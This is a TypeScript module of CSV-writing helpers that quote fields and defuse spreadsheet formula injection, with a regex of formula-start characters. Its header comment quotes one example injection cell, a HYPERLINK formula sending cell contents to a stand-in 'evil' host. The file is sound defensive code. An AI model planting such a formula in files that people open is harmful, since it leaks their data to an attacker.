/**
 * Writing CSV cells. Two kinds: `csvField` quotes (RFC 4180) and nothing more, for files
 * read back by a program; `csvText` also defuses a spreadsheet formula, for free text a
 * person will open in Excel, LibreOffice or Sheets (recommender names, titles from a share
 * link). A cell such as `=HYPERLINK("http://evil/?"&A1,"click")` is run as a formula when
 * the file is opened ("CSV injection"); a leading apostrophe makes it plain text there.
 */

/** True when a CSV cell must be quoted to read back as written: it holds a comma, quote or line break, or starts or ends with white space. */
export function needsQuoting(s: string): boolean {
  return /[",\r\n]|^\s|\s$/.test(s);
}

/** One CSV field: quoted when it holds a comma, quote, line break or edge spaces (`needsQuoting`); quotes doubled. Non-finite numbers and null are empty. */
export function csvField(v: string | number | boolean | null): string {
  if (v === null) return '';
  const s = typeof v === 'number' ? (Number.isFinite(v) ? String(v) : '') : String(v);
  return needsQuoting(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/**
 * Characters a spreadsheet reads as the start of a formula (OWASP's list: = + - @, and tab
 * and carriage return, which some apps strip before reading the rest as a formula).
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A free-text cell for a file a person opens in a spreadsheet: text that would start a formula gets a leading apostrophe, then the field is quoted as `csvField`. Numbers pass unchanged. */
export function csvText(v: string | number | boolean | null): string {
  return csvField(typeof v === 'string' && FORMULA_START.test(v) ? `'${v}` : v);
}
